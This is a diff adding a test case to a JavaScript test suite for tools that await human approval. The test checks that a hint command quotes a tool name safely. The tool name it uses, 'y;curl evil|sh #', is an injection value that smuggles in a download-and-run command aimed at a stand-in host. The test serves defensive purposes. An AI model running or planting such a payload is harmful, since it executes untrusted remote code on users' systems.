@@ -185,6 +185,14 @@ describe('tools that wait for a person', () => {
     expect(await codeOf(run('GET held', { server: 'x' }))).toBe('SERVER_UNKNOWN');
   });
 
+  it('are named in a command that does nothing but accept', async () => {
+    const tool = 'y;curl evil|sh #';
+    const { run } = bench(undefined, [{ ...held[0]!, tool }]);
+    await expect(run('GET tool', { server: 'a', name: tool })).rejects.toMatchObject({
+      hint: "See what it is: pincer accept 'a.y;curl evil|sh #'",
+    });
+  });
+
   it('are accepted as they were seen', async () => {
     const { told, run } = bench(undefined, held);
     expect(await run('POST accept', {}, { server: 'a', tool: 'y', seen: ['d'] })).toEqual({ accepted: [] });
